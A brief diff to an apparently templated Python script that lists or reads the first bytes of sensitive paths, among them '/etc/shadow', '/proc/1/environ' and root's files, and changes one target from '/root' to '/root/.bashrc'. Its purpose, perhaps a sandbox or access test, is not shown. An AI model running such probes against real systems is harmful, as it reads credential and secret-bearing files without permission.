@@ -11,7 +11,7 @@ import glob, os
 
 places = "@HOST@"
 found = []
-for place in places + ["/etc/passwd", "/etc/shadow", "/proc/1/environ", "/root", "/home"]:
+for place in places + ["/etc/passwd", "/etc/shadow", "/proc/1/environ", "/root/.bashrc", "/home"]:
     try:
         found.append(str(os.listdir(place) if os.path.isdir(place) else open(place).read(40)))
     except OSError:
